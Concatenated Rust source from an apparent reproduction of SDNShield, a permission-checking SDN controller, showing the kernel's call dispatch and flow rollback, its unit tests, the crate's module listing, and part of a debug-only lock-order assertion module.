                (Ok(ApiResponse::Topology(view)), Vec::new())
            }
            ApiCallKind::ModifyTopology { dpid } => {
                // Simulated: announce a change only.
                let ev = OutboundEvent {
                    event: Event::TopologyChanged {
                        description: format!("modified around {dpid}"),
                    },
                };
                (Ok(ApiResponse::Unit), vec![ev])
            }
            ApiCallKind::ReadStatistics { dpid, request } => {
                // Virtual-topology apps fan out to members and aggregate.
                if let Some(vt) = self.vtopo_for(app) {
                    let members = match vt.expand_members(*dpid) {
                        Ok(m) => m,
                        Err(e) => return (Err(ApiError::Vtopo(e.to_string())), Vec::new()),
                    };
                    let mut replies = Vec::new();
                    for m in members {
                        match self.network.stats(m, request) {
                            Ok(r) => replies.push(r),
                            Err(e) => return (Err(ApiError::Switch(e)), Vec::new()),
                        }
                    }
                    return (
                        Ok(ApiResponse::Stats(vt.aggregate_stats(replies))),
                        Vec::new(),
                    );
                }
                match self.network.stats(*dpid, request) {
                    Ok(r) => (Ok(ApiResponse::Stats(r)), Vec::new()),
                    Err(e) => (Err(ApiError::Switch(e)), Vec::new()),
                }
            }
            ApiCallKind::ReadPayload { .. } => (Ok(ApiResponse::Unit), Vec::new()),
            ApiCallKind::SendPacketOut { dpid, packet_out } => {
                let frame = match EthernetFrame::from_bytes(packet_out.payload.clone()) {
                    Ok(f) => f,
                    Err(e) => {
                        return (
                            Err(ApiError::Switch(
                                sdnshield_openflow::messages::OfError::BadRequest(e.to_string()),
                            )),
                            Vec::new(),
                        )
                    }
                };
                // Resolve virtual output ports for vtopo apps.
                let (phys_dpid, actions) = match self.vtopo_for(app) {
                    Some(vt) => match resolve_vtopo_packet_out(&vt, *dpid, packet_out) {
                        Ok(x) => x,
                        Err(e) => return (Err(ApiError::Vtopo(e)), Vec::new()),
                    },
                    None => (*dpid, packet_out.actions.0.clone()),
                };
                match self
                    .network
                    .inject_packet_out(phys_dpid, packet_out.in_port, frame, actions)
                {
                    Ok(deliveries) => {
                        let events = self.absorb_deliveries(deliveries);
                        (Ok(ApiResponse::Unit), events)
                    }
                    Err(e) => (Err(ApiError::Switch(e)), Vec::new()),
                }
            }
            ApiCallKind::Subscribe { kind } => {
                // The EVENT_INTERCEPTION callback filter (paper §IV-B) lets
                // an app consume events ahead of others: interceptors sort
                // to the front of the delivery order.
                let intercepts = self
                    .engine_for(app)
                    .and_then(|e| {
                        e.filter_for(call.required_token()).map(|f| {
                            f.atoms().iter().any(|a| {
                                matches!(
                                    a,
                                    SingletonFilter::Callback(
                                        sdnshield_core::filter::CallbackCap::EventInterception
                                    )
                                )
                            })
                        })
                    })
                    .unwrap_or(false);
                let mut subs = self.subs_write();
                let subs = subs.by_kind.entry(kind_key(*kind)).or_default();
                if !subs.iter().any(|(a, _)| *a == app) {
                    if intercepts {
                        subs.insert(0, (app, true));
                    } else {
                        subs.push((app, false));
                    }
                }
                (Ok(ApiResponse::Subscribed(*kind)), Vec::new())
            }
            ApiCallKind::HostConnect { dst_ip, dst_port } => {
                let id = self.host_lock().connect(app, *dst_ip, *dst_port);
                (Ok(ApiResponse::Connection(id)), Vec::new())
            }
            ApiCallKind::HostSend { conn, len } => {
                // The deputy pre-validated the destination; record the send.
                let ok = self
                    .host_lock()
                    .send(app, ConnId(*conn), Bytes::from(vec![0u8; *len]));
                if ok {
                    (Ok(ApiResponse::Unit), Vec::new())
                } else {
                    (
                        Err(ApiError::Switch(
                            sdnshield_openflow::messages::OfError::BadRequest(
                                "unknown connection handle".into(),
                            ),
                        )),
                        Vec::new(),
                    )
                }
            }
            ApiCallKind::FileOpen { path, write } => {
                self.host_lock().open_file(app, path.clone(), *write);
                (Ok(ApiResponse::Unit), Vec::new())
            }
            ApiCallKind::ProcessExec { program } => {
                self.host_lock().exec(app, program.clone());
                (Ok(ApiResponse::Unit), Vec::new())
            }
        }
    }

    /// Applies a flow-mod, translating through the app's virtual topology
    /// when one is granted, stamping ownership cookies, and recording
    /// ownership. Takes only the target switch's lock (per target), then
    /// the tracker write lock — never both at once.
    fn apply_flow(
        &self,
        app: AppId,
        dpid: DatapathId,
        flow_mod: &FlowMod,
    ) -> (Result<ApiResponse, ApiError>, Vec<OutboundEvent>) {
        let targets: Vec<(DatapathId, FlowMod)> = match self.vtopo_for(app) {
            Some(vt) => match vt.translate_flow_mod(dpid, flow_mod) {
                Ok(t) => t,
                Err(e) => return (Err(ApiError::Vtopo(e.to_string())), Vec::new()),
            },
            None => vec![(dpid, flow_mod.clone())],
        };
        let mut events = Vec::new();
        for (d, fm) in targets {
            let stamped = stamp_cookie(app, &fm);
            match self.network.apply_flow_mod(d, &stamped) {
                Ok(removed) => {
                    self.tracker_mut(|t| t.record_flow_mod(app, d, &stamped));
                    events.extend(removed_events(d, &removed));
                }
                Err(e) => return (Err(ApiError::Switch(e)), events),
            }
        }
        (Ok(ApiResponse::Unit), events)
    }

    /// Rolls back one applied transaction operation.
    fn rollback(
        &self,
        app: AppId,
        op: &FlowOp,
        removed: Vec<sdnshield_openflow::flow_table::RemovedEntry>,
    ) {
        use sdnshield_openflow::messages::FlowModCommand;
        let stamped = stamp_cookie(app, &op.flow_mod);
        match stamped.command {
            FlowModCommand::Add | FlowModCommand::Modify | FlowModCommand::ModifyStrict => {
                let mut undo = stamped.clone();
                undo.command = FlowModCommand::DeleteStrict;
                let _ = self.network.apply_flow_mod(op.dpid, &undo);
                self.tracker_mut(|t| t.record_flow_mod(app, op.dpid, &undo));
            }
            FlowModCommand::Delete | FlowModCommand::DeleteStrict => {}
        }
        // Restore entries the op deleted.
        for r in removed {
            let mut restore = FlowMod::add(
                r.entry.flow_match.clone(),
                r.entry.priority,
                r.entry.actions.clone(),
            );
            restore.cookie = r.entry.cookie;
            restore.idle_timeout = r.entry.idle_timeout;
            restore.hard_timeout = r.entry.hard_timeout;
            let _ = self.network.apply_flow_mod(op.dpid, &restore);
        }
    }

    /// Converts data-plane deliveries into inbox records + packet-in events.
    fn absorb_deliveries(&self, deliveries: Vec<Delivery>) -> Vec<OutboundEvent> {
        let mut events = Vec::new();
        for d in deliveries {
            match d {
                Delivery::ToHost { mac, frame } => {
                    self.host_inbox_lock().entry(mac).or_default().push(frame);
                }
                Delivery::ToController { dpid, packet_in } => {
                    events.push(OutboundEvent {
                        event: Event::PacketIn { dpid, packet_in },
                    });
                }
                Delivery::Dropped { .. } => {}
            }
        }
        events
    }

    /// Builds the topology view an app is allowed to see. Registry state is
    /// cloned out first, so the topology read lock is never nested inside
    /// (or under) another subsystem lock here.
    fn topology_view_for(&self, app: AppId) -> TopologyView {
        let (vtopo, engine) = if self.checks_enabled {
            let reg = self.reg_read();
            (
                reg.vtopos.get(&app).cloned(),
                reg.engines.get(&app).cloned(),
            )
        } else {
            (None, None)
        };
        let topo = self.network.topology();
        // Virtual topology: present the big switches.
        if let Some(vt) = vtopo {
            let switches = vt
                .switches()
                .iter()
                .map(|vs| SwitchView {
                    dpid: vs.dpid,
                    ports: vs.ports.iter().map(|p| p.vport).collect(),
                })
                .collect();
            return TopologyView {
                switches,
                links: Vec::new(),
                hosts: topo.hosts().to_vec(),
                link_ports: Vec::new(),
            };
        }
        let phys_filter: Option<&SingletonFilter> = engine
            .as_ref()
            .and_then(|e| e.filter_for(PermissionToken::VisibleTopology))
            .and_then(find_phys_topo_atom);
        let visible_switch = |d: DatapathId| match phys_filter {
            Some(SingletonFilter::PhysTopo(t)) => t.contains_switch(d),
            _ => true,
        };
        let visible_link = |a: DatapathId, b: DatapathId| match phys_filter {
            Some(SingletonFilter::PhysTopo(t)) => t.contains_link(a, b),
            _ => true,
        };
        let switches = topo
            .switches()
            .filter(|s| visible_switch(s.dpid))
            .map(|s| SwitchView {
                dpid: s.dpid,
                ports: s.ports.clone(),
            })
            .collect();
        let links = topo
            .link_ids()
            .into_iter()
            .filter(|l| visible_switch(l.0) && visible_switch(l.1) && visible_link(l.0, l.1))
            .map(|l| (l.0, l.1))
            .collect();
        let hosts = topo
            .hosts()
            .iter()
            .filter(|h| visible_switch(h.switch))
            .cloned()
            .collect();
        let link_ports = topo
            .links()
            .iter()
            .filter(|l| {
                visible_switch(l.src) && visible_switch(l.dst) && visible_link(l.src, l.dst)
            })
            .map(|l| (l.src, l.src_port, l.dst, l.dst_port))
            .collect();
        TopologyView {
            switches,
            links,
            hosts,
            link_ports,
        }
    }
}

/// Stamps the app's identity into the rule cookie (ownership convention).
fn stamp_cookie(app: AppId, fm: &FlowMod) -> FlowMod {
    let mut stamped = fm.clone();
    stamped.cookie = Cookie::with_owner(app.0, fm.cookie.tag());
    stamped
}

fn flow_op_call(app: AppId, op: &FlowOp) -> ApiCall {
    use sdnshield_openflow::messages::FlowModCommand;
    let kind = match op.flow_mod.command {
        FlowModCommand::Delete | FlowModCommand::DeleteStrict => ApiCallKind::DeleteFlow {
            dpid: op.dpid,
            flow_mod: op.flow_mod.clone(),
        },
        _ => ApiCallKind::InsertFlow {
            dpid: op.dpid,
            flow_mod: op.flow_mod.clone(),
        },
    };
    ApiCall::new(app, kind)
}

fn removed_events(
    dpid: DatapathId,
    removed: &[sdnshield_openflow::flow_table::RemovedEntry],
) -> Vec<OutboundEvent> {
    removed
        .iter()
        .filter(|r| r.entry.notify_when_removed)
        .map(|r| OutboundEvent {
            event: Event::FlowRemoved {
                dpid,
                flow_removed: to_flow_removed(r),
            },
        })
        .collect()
}

fn to_flow_removed(r: &sdnshield_openflow::flow_table::RemovedEntry) -> FlowRemoved {
    FlowRemoved {
        flow_match: r.entry.flow_match.clone(),
        priority: r.entry.priority,
        cookie: r.entry.cookie,
        reason: r.reason,
        packet_count: r.entry.packet_count,
        byte_count: r.entry.byte_count,
        duration_secs: 0,
    }
}

/// Extracts a VIRTUAL spec from a filter expression, if present as a
/// positive atom.
fn find_vtopo_spec(filter: &FilterExpr) -> Option<sdnshield_core::vtopo::VirtualTopologySpec> {
    filter.atoms().into_iter().find_map(|a| match a {
        SingletonFilter::VirtTopo(spec) => Some(spec.clone()),
        _ => None,
    })
}

/// Extracts a physical-topology atom from a filter expression.
fn find_phys_topo_atom(filter: &FilterExpr) -> Option<&SingletonFilter> {
    filter
        .atoms()
        .into_iter()
        .find(|a| matches!(a, SingletonFilter::PhysTopo(_)))
}

/// Builds the core-local physical view the vtopo mapper needs.
fn phys_view(network: &Network) -> PhysView {
    let topo = network.topology();
    PhysView {
        switches: topo.switches().map(|s| s.dpid.0).collect(),
        links: topo
            .links()
            .iter()
            .map(|l| (l.src.0, l.src_port.0, l.dst.0, l.dst_port.0))
            .collect(),
        edge_ports: topo
            .hosts()
            .iter()
            .map(|h| (h.switch.0, h.port.0))
            .collect(),
    }
}

/// Resolves a packet-out issued against a virtual switch into a physical
/// injection point and actions.
fn resolve_vtopo_packet_out(
    vt: &VirtualTopology,
    dpid: DatapathId,
    packet_out: &sdnshield_openflow::messages::PacketOut,
) -> Result<(DatapathId, Vec<sdnshield_openflow::actions::Action>), String> {
    use sdnshield_openflow::actions::Action;
    let vs = vt
        .switch(dpid)
        .ok_or_else(|| format!("unknown virtual switch {dpid}"))?;
    let mut phys_dpid = None;
    let mut actions = Vec::new();
    for a in &packet_out.actions {
        match a {
            Action::Output(p) if !p.is_reserved() => {
                let vp = vs
                    .ports
                    .iter()
                    .find(|vp| vp.vport == *p)
                    .ok_or_else(|| format!("unknown virtual port {p}"))?;
                phys_dpid.get_or_insert(vp.phys_dpid);
                actions.push(Action::Output(vp.phys_port));
            }
            other => actions.push(other.clone()),
        }
    }
    let phys = phys_dpid
        .or_else(|| vs.members.iter().next().map(|m| DatapathId(*m)))
        .ok_or_else(|| "virtual switch has no members".to_string())?;
    Ok((phys, actions))
}

#[cfg(test)]
mod tests {
    use super::*;
    use sdnshield_core::lang::parse_manifest;
    use sdnshield_netsim::topology::builders;
    use sdnshield_openflow::actions::ActionList;
    use sdnshield_openflow::flow_match::FlowMatch;
    use sdnshield_openflow::types::PortNo;
    use sdnshield_openflow::types::{Ipv4, Priority};

    fn kernel_with(manifest: &str) -> (Kernel, AppId) {
        let kernel = Kernel::new(Network::new(builders::linear(3), 1024), true);
        let app = AppId(1);
        kernel
            .register_app(app, "test", &parse_manifest(manifest).unwrap())
            .unwrap();
        (kernel, app)
    }

    fn insert(app: AppId, dpid: u64, tp_dst: u16) -> ApiCall {
        ApiCall::new(
            app,
            ApiCallKind::InsertFlow {
                dpid: DatapathId(dpid),
                flow_mod: FlowMod::add(
                    FlowMatch::default().with_tp_dst(tp_dst),
                    Priority(10),
                    ActionList::output(PortNo(1)),
                ),
            },
        )
    }

    #[test]
    fn allowed_insert_lands_with_ownership_cookie() {
        let (kernel, app) = kernel_with("PERM insert_flow");
        let (res, _) = kernel.execute(&insert(app, 1, 80));
        assert_eq!(res.unwrap(), ApiResponse::Unit);
        kernel.with_network(|n| {
            let entry = n
                .switch(DatapathId(1))
                .unwrap()
                .table()
                .iter()
                .next()
                .unwrap()
                .clone();
            assert_eq!(entry.cookie.owner(), app.0);
        });
    }

    #[test]
    fn denied_insert_never_touches_switch_and_audits() {
        let (kernel, app) = kernel_with("PERM read_statistics");
        let (res, _) = kernel.execute(&insert(app, 1, 80));
        assert!(res.unwrap_err().is_denied());
        assert_eq!(kernel.flow_count(DatapathId(1)), 0);
        let audit = kernel.audit_records();
        assert_eq!(audit.len(), 1);
        assert_eq!(audit[0].outcome, AuditOutcome::Denied);
    }

    #[test]
    fn lint_on_register_rejects_unsatisfiable_manifest() {
        let kernel = Kernel::new(Network::new(builders::linear(2), 64), true);
        kernel.set_lint_on_register(true);
        let manifest =
            parse_manifest("PERM insert_flow LIMITING IP_DST 10.0.0.1 AND IP_DST 10.0.0.2")
                .unwrap();
        let err = kernel
            .register_app(AppId(1), "bad-app", &manifest)
            .unwrap_err();
        let ApiError::ManifestRejected(msg) = err else {
            panic!("expected ManifestRejected, got {err:?}");
        };
        assert!(msg.contains("SH001"), "{msg}");
        // The finding is on the audit trail, and the app never registered.
        let audit = kernel.audit_records();
        assert!(audit
            .iter()
            .any(|r| r.operation == "lint:SH001" && r.outcome == AuditOutcome::Denied));
        assert_eq!(kernel.app_name(AppId(1)), None);
    }

    #[test]
    fn lint_on_register_accepts_warnings() {
        let kernel = Kernel::new(Network::new(builders::linear(2), 64), true);
        kernel.set_lint_on_register(true);
        // Unrestricted write-class token: SH004 warning, accepted.
        let manifest = parse_manifest("PERM insert_flow").unwrap();
        kernel
            .register_app(AppId(1), "broad-app", &manifest)
            .unwrap();
        let audit = kernel.audit_records();
        assert!(audit
            .iter()
            .any(|r| r.operation == "lint:SH004" && r.outcome == AuditOutcome::Allowed));
        assert_eq!(kernel.app_name(AppId(1)).as_deref(), Some("broad-app"));
    }

    #[test]
    fn lint_off_by_default_registers_unsatisfiable_manifest() {
        let kernel = Kernel::new(Network::new(builders::linear(2), 64), true);
        let manifest =
            parse_manifest("PERM insert_flow LIMITING IP_DST 10.0.0.1 AND IP_DST 10.0.0.2")
                .unwrap();
        kernel
            .register_app(AppId(1), "legacy-app", &manifest)
            .unwrap();
        assert_eq!(kernel.app_name(AppId(1)).as_deref(), Some("legacy-app"));
    }

    #[test]
    fn unregistered_app_denied() {
        let kernel = Kernel::new(Network::new(builders::linear(2), 64), true);
        let (res, _) = kernel.execute(&insert(AppId(9), 1, 80));
        assert!(res.unwrap_err().is_denied());
    }

    #[test]
    fn monolithic_kernel_skips_checks() {
        let kernel = Kernel::new(Network::new(builders::linear(2), 64), false);
        let (res, _) = kernel.execute(&insert(AppId(9), 1, 80));
        assert!(res.is_ok(), "no registration, no checks, still executes");
        assert_eq!(kernel.flow_count(DatapathId(1)), 1);
    }

    #[test]
    fn read_flow_table_visibility_filtered() {
        let (kernel, app) = kernel_with(
            "PERM insert_flow\n\
             PERM read_flow_table LIMITING OWN_FLOWS",
        );
        // App 1 installs one rule; a second app installs another.
        kernel
            .register_app(
                AppId(2),
                "other",
                &parse_manifest("PERM insert_flow").unwrap(),
            )
            .unwrap();
        kernel.execute(&insert(app, 1, 80)).0.unwrap();
        kernel.execute(&insert(AppId(2), 1, 443)).0.unwrap();
        let (res, _) = kernel.execute(&ApiCall::new(
            app,
            ApiCallKind::ReadFlowTable {
                dpid: DatapathId(1),
                query: FlowMatch::any(),
            },
        ));
        match res.unwrap() {
            ApiResponse::FlowEntries(entries) => {
                assert_eq!(entries.len(), 1, "only own flow visible");
                assert_eq!(entries[0].flow_match.tp_dst, Some(80));
            }
            other => panic!("expected entries, got {other:?}"),
        }
    }

    #[test]
    fn topology_view_respects_phys_filter() {
        let (kernel, app) = kernel_with("PERM visible_topology LIMITING SWITCH 1,2 LINK 1-2");
        let (res, _) = kernel.execute(&ApiCall::new(app, ApiCallKind::ReadTopology));
        match res.unwrap() {
            ApiResponse::Topology(view) => {
                assert_eq!(view.switches.len(), 2);
                assert_eq!(view.links, vec![(DatapathId(1), DatapathId(2))]);
            }
            other => panic!("expected topology, got {other:?}"),
        }
    }

    #[test]
    fn virtual_topology_registration_and_view() {
        let (kernel, app) = kernel_with(
            "PERM visible_topology LIMITING VIRTUAL SINGLE_BIG_SWITCH\n\
             PERM insert_flow",
        );
        let (res, _) = kernel.execute(&ApiCall::new(app, ApiCallKind::ReadTopology));
        match res.unwrap() {
            ApiResponse::Topology(view) => {
                assert_eq!(view.switches.len(), 1, "one big switch");
                // linear(3) has 3 hosts = 3 external edge ports.
                assert_eq!(view.switches[0].ports.len(), 3);
            }
            other => panic!("expected topology, got {other:?}"),
        }
        // A flow inserted on the big switch lands on physical switches.
        let vport_out = PortNo(3); // host on switch 3
        let call = ApiCall::new(
            app,
            ApiCallKind::InsertFlow {
                dpid: DatapathId(1),
                flow_mod: FlowMod::add(
                    FlowMatch::default().with_ip_dst(Ipv4::new(10, 0, 0, 3)),
                    Priority(10),
                    ActionList::output(vport_out),
                ),
            },
        );
        kernel.execute(&call).0.unwrap();
        let total: usize = (1..=3).map(|d| kernel.flow_count(DatapathId(d))).sum();
        assert!(total >= 3, "rules along the path, got {total}");
    }

    #[test]
    fn virtual_topology_stats_aggregate_across_members() {
        let (kernel, app) = kernel_with(
            "PERM visible_topology LIMITING VIRTUAL SINGLE_BIG_SWITCH\n\
             PERM insert_flow\n\
             PERM read_statistics",
        );
        // One big-switch rule → one physical rule per member switch.
        kernel
            .execute(&ApiCall::new(
                app,
                ApiCallKind::InsertFlow {
                    dpid: DatapathId(1),
                    flow_mod: FlowMod::add(
                        FlowMatch::default().with_ip_dst(Ipv4::new(10, 0, 0, 3)),
                        Priority(10),
                        ActionList::output(PortNo(3)),
                    ),
                },
            ))
            .0
            .unwrap();
        let (res, _) = kernel.execute(&ApiCall::new(
            app,
            ApiCallKind::ReadStatistics {
                dpid: DatapathId(1),
                request: sdnshield_openflow::messages::StatsRequest::Table,
            },
        ));
        match res.unwrap() {
            ApiResponse::Stats(sdnshield_openflow::messages::StatsReply::Table(t)) => {
                // Aggregated over 3 member switches, one rule each.
                assert_eq!(t.active_count, 3);
                assert_eq!(t.max_entries, 3 * 1024);
            }
            other => panic!("expected table stats, got {other:?}"),
        }
    }

    #[test]
    fn transaction_atomicity_on_denial() {
        let (kernel, app) =
            kernel_with("PERM insert_flow LIMITING IP_DST 10.13.0.0 MASK 255.255.0.0");
        let good = FlowOp {
            dpid: DatapathId(1),
            flow_mod: FlowMod::add(
                FlowMatch::default().with_ip_dst(Ipv4::new(10, 13, 0, 1)),
                Priority(10),
                ActionList::output(PortNo(1)),
            ),
        };
        let bad = FlowOp {
            dpid: DatapathId(1),
            flow_mod: FlowMod::add(
                FlowMatch::default().with_ip_dst(Ipv4::new(10, 99, 0, 1)),
                Priority(10),
                ActionList::output(PortNo(1)),
            ),
        };
        let (res, _) = kernel.execute_transaction(app, &[good.clone(), bad]);
        match res.unwrap_err() {
            ApiError::TransactionAborted {
                failed_index,
                cause,
            } => {
                assert_eq!(failed_index, 1);
                assert!(cause.is_denied());
            }
            other => panic!("expected abort, got {other:?}"),
        }
        assert_eq!(kernel.flow_count(DatapathId(1)), 0, "nothing applied");
        // The same transaction without the bad op commits.
        let (res, _) = kernel.execute_transaction(app, &[good]);
        assert!(res.is_ok());
        assert_eq!(kernel.flow_count(DatapathId(1)), 1);
    }

    #[test]
    fn transaction_rollback_on_switch_error() {
        // Capacity-1 table: second op fails, first must roll back.
        let kernel = Kernel::new(Network::new(builders::linear(2), 1), true);
        let app = AppId(1);
        kernel
            .register_app(app, "t", &parse_manifest("PERM insert_flow").unwrap())
            .unwrap();
        let op = |tp: u16| FlowOp {
            dpid: DatapathId(1),
            flow_mod: FlowMod::add(
                FlowMatch::default().with_tp_dst(tp),
                Priority(10),
                ActionList::output(PortNo(1)),
            ),
        };
        let (res, _) = kernel.execute_transaction(app, &[op(1), op(2)]);
        match res.unwrap_err() {
            ApiError::TransactionAborted { failed_index, .. } => assert_eq!(failed_index, 1),
            other => panic!("expected abort, got {other:?}"),
        }
        assert_eq!(kernel.flow_count(DatapathId(1)), 0, "rolled back");
    }

    #[test]
    fn event_payload_stripping() {
        let (kernel, app) = kernel_with("PERM pkt_in_event");
        kernel
            .register_app(
                AppId(2),
                "reader",
                &parse_manifest("PERM pkt_in_event\nPERM read_payload").unwrap(),
            )
            .unwrap();
        let pi = PacketIn {
            buffer_id: sdnshield_openflow::types::BufferId::NO_BUFFER,
            in_port: PortNo(1),
            reason: sdnshield_openflow::messages::PacketInReason::NoMatch,
            payload: Bytes::from_static(b"secret"),
        };
        let event = Event::PacketIn {
            dpid: DatapathId(1),
            packet_in: pi,
        };
        match kernel.event_view_for(app, &event).unwrap() {
            Event::PacketIn { packet_in, .. } => assert!(packet_in.payload.is_empty()),
            other => panic!("unexpected {other:?}"),
        }
        match kernel.event_view_for(AppId(2), &event).unwrap() {
            Event::PacketIn { packet_in, .. } => {
                assert_eq!(packet_in.payload.as_ref(), b"secret")
            }
            other => panic!("unexpected {other:?}"),
        }
    }

    #[test]
    fn subscriptions_routed() {
        let (kernel, app) = kernel_with("PERM pkt_in_event");
        let (res, _) = kernel.execute(&ApiCall::new(
            app,
            ApiCallKind::Subscribe {
                kind: EventKind::PacketIn,
            },
        ));
        assert_eq!(res.unwrap(), ApiResponse::Subscribed(EventKind::PacketIn));
        assert_eq!(kernel.subscribers(EventKind::PacketIn), vec![app]);
        // Unpermitted subscription denied.
        let (res, _) = kernel.execute(&ApiCall::new(
            app,
            ApiCallKind::Subscribe {
                kind: EventKind::Topology,
            },
        ));
        assert!(res.unwrap_err().is_denied());
        // Custom topics are unmediated pub/sub.
        kernel.subscribe_topic(app, "alto");
        kernel.subscribe_topic(app, "alto");
        assert_eq!(kernel.topic_subscribers("alto"), vec![app]);
    }

    #[test]
    fn host_network_accounting() {
        let (kernel, app) = kernel_with("PERM network_access");
        let (res, _) = kernel.execute(&ApiCall::new(
            app,
            ApiCallKind::HostConnect {
                dst_ip: Ipv4::new(8, 8, 8, 8),
                dst_port: 80,
            },
        ));
        let ApiResponse::Connection(conn) = res.unwrap() else {
            panic!("expected connection")
        };
        kernel
            .execute(&ApiCall::new(
                app,
                ApiCallKind::HostSend {
                    conn: conn.0,
                    len: 1000,
                },
            ))
            .0
            .unwrap();
        assert_eq!(kernel.bytes_exfiltrated_by(app), 1000);
    }

    #[test]
    fn loading_time_token_check() {
        let (kernel, app) = kernel_with("PERM read_statistics");
        let missing = kernel.missing_tokens(
            app,
            &[PermissionToken::ReadStatistics, PermissionToken::InsertFlow],
        );
        assert_eq!(missing, vec![PermissionToken::InsertFlow]);
        assert!(kernel
            .missing_tokens(AppId(99), &[PermissionToken::ReadStatistics])
            .contains(&PermissionToken::ReadStatistics));
    }

    #[test]
    fn clock_expiry_generates_flow_removed() {
        let (kernel, app) = kernel_with("PERM insert_flow\nPERM flow_event");
        let mut fm = FlowMod::add(
            FlowMatch::default().with_tp_dst(80),
            Priority(10),
            ActionList::output(PortNo(1)),
        )
        .with_hard_timeout(5);
        fm.notify_when_removed = true;
        kernel
            .execute(&ApiCall::new(
                app,
                ApiCallKind::InsertFlow {
                    dpid: DatapathId(1),
                    flow_mod: fm,
                },
            ))
            .0
            .unwrap();
        let events = kernel.advance_clock(10);
        assert_eq!(events.len(), 1);
        assert!(matches!(events[0].event, Event::FlowRemoved { .. }));
    }

    #[test]
    fn audit_records_since_cursor() {
        let (kernel, app) = kernel_with("PERM insert_flow");
        kernel.execute(&insert(app, 1, 80)).0.unwrap();
        kernel.execute(&insert(app, 1, 81)).0.unwrap();
        let first = kernel.audit_records_since(0);
        assert_eq!(first.len(), 2);
        let cursor = first.last().unwrap().seq;
        assert!(kernel.audit_records_since(cursor).is_empty());
        kernel.execute(&insert(app, 1, 82)).0.unwrap();
        let next = kernel.audit_records_since(cursor);
        assert_eq!(next.len(), 1);
        assert_eq!(next[0].seq, cursor + 1);
    }
}
