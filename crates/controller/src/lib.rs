//! The SDN controller kernel and isolation architecture for the SDNShield
//! reproduction (paper §VI, §VIII).
//!
//! Two controller builds share one kernel and one [`app::App`] programming
//! model:
//!
//! * [`isolation::ShieldedController`] — the SDNShield architecture: apps on
//!   unprivileged threads, every API call marshalled over channels to a pool
//!   of Kernel Service Deputy threads that permission-check and execute it;
//! * [`monolithic::MonolithicController`] — the unmodified-controller
//!   baseline: direct calls, no checks, no isolation.
//!
//! Supporting modules: [`kernel`] (the state owner and check/execute choke
//! point), [`api`] (typed call/response surface), [`events`], [`hostsys`]
//! (the simulated host OS that Class-2 attacks exfiltrate through),
//! [`audit`] (forensic activity log), [`fault`] (the fault-injection harness
//! driving the crash-containment tests), [`lockorder`] (debug-build
//! assertions for the kernel's documented lock hierarchy), [`command`] (the
//! serializable command vocabulary and kernel snapshot format), [`journal`]
//! (the durable CRC-framed command log behind crash recovery, record/replay
//! debugging, and warm-standby failover — DESIGN.md §12).

#![warn(missing_docs)]
#![forbid(unsafe_code)]

pub mod api;
pub mod app;
pub(crate) mod arena;
pub mod audit;
pub mod command;
pub mod events;
pub mod fault;
pub mod hostsys;
pub mod isolation;
pub mod journal;
pub mod kernel;
pub mod lockorder;
pub mod monolithic;
pub mod southbound;

pub use api::{ApiError, ApiResponse, FlowOp, TopologyView};
pub use app::{App, AppCtx};
pub use command::{Command, CommandOutcome, KernelSnapshot};
pub use events::Event;
pub use fault::FaultPlan;
pub use isolation::{
    AppState, ControllerConfig, KernelCell, RegisterError, RestartPolicy, ShieldedController,
    WarmStandby,
};
pub use journal::{Journal, JournalFaults, JournalRecord};
pub use kernel::Kernel;
pub use monolithic::MonolithicController;
