//! Debug-only lock-order assertions for the kernel's locking hierarchy.
//!
//! The kernel documents a strict acquisition order (DESIGN.md "Locking
//! hierarchy & scaling"): **Registry → Subs → Tracker → Topology → Switch →
//! Host → HostInbox**. A thread may only acquire downward — while holding a
//! lock it may take another only at a strictly greater rank. Holding the
//! discipline is what makes the kernel deadlock-free without a global lock,
//! but nothing used to *check* it: an inversion introduced by a refactor
//! would surface as a rare hang under contention, not a test failure.
//!
//! This module makes the discipline executable. Every kernel-level lock
//! acquisition goes through [`acquire`] (usually via [`order`]), which in
//! debug/test builds maintains a thread-local stack of held ranks and
//! **panics immediately** on an out-of-order acquisition — turning a
//! would-be deadlock into a deterministic unit-test failure with both lock
//! names in the message. In release builds the whole bookkeeping compiles
//! away: [`Held`] is a zero-sized token and [`acquire`] is a no-op.
//!
//! Only *simultaneously held* locks are constrained. Sequential
//! acquisitions (take Host, release it, then take Tracker — as
//! `Kernel::deregister_app` does) are always legal, which the stack model
//! captures naturally: a released lock pops off and no longer bounds later
//! acquisitions. Re-acquiring a rank already held is also flagged — the
//! kernel's locks are not reentrant, so that is a self-deadlock. The
//! `Switch` rank's internal discipline (ascending dpid) lives inside
//! `netsim` and is out of scope here; the kernel only ever observes switch
//! locks one at a time.
//!
//! Two kinds of synchronization sit deliberately **outside** the ranked
//! set (DESIGN.md §13):
//!
//! * [`crossbeam::epoch::RcuCell`] loads and stores are not locks —
//!   readers never block and a writer's publish is a pointer swap — so
//!   snapshot reads (topology, `SwitchView`) are legal while holding any
//!   ranked lock and carry no rank.
//! * The audit log's drain mutex and per-segment mutexes are leaf locks:
//!   the drain path acquires no ranked lock beneath them, and every
//!   producer-side assist uses `try_lock`, degrading to the counted shed
//!   path instead of blocking. They are therefore unranked as well.

use std::ops::{Deref, DerefMut};

/// Lock ranks in acquisition order. Higher ranks must be taken after lower
/// ones when held simultaneously.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum Rank {
    /// The app registry (engines, names, virtual topologies).
    Registry,
    /// Event and topic subscriptions.
    Subs,
    /// The ownership/quota tracker.
    Tracker,
    /// The netsim topology `RwLock` (annotated only where the kernel wraps
    /// a topology access; netsim-internal acquisitions are unchecked).
    Topology,
    /// A per-switch mutex (netsim-internal; ascending-dpid discipline is
    /// enforced there, one at a time from the kernel's perspective).
    Switch,
    /// The simulated host system.
    Host,
    /// The host NIC inbox.
    HostInbox,
}

impl Rank {
    // Only the debug-build inversion message reads the name.
    #[cfg_attr(not(debug_assertions), allow(dead_code))]
    fn name(self) -> &'static str {
        match self {
            Rank::Registry => "Registry",
            Rank::Subs => "Subs",
            Rank::Tracker => "Tracker",
            Rank::Topology => "Topology",
            Rank::Switch => "Switch",
            Rank::Host => "Host",
            Rank::HostInbox => "HostInbox",
        }
    }
}

#[cfg(debug_assertions)]
mod imp {
    use super::Rank;
    use std::cell::{Cell, RefCell};

    thread_local! {
        /// Ranks this thread currently holds, as (token id, rank) pairs.
        /// Guards can drop in any order, so entries are keyed by id, not
        /// stack position.
        static HELD: RefCell<Vec<(u64, Rank)>> = const { RefCell::new(Vec::new()) };
        static NEXT_ID: Cell<u64> = const { Cell::new(0) };
    }

    pub(super) fn push(rank: Rank) -> u64 {
        HELD.with(|held| {
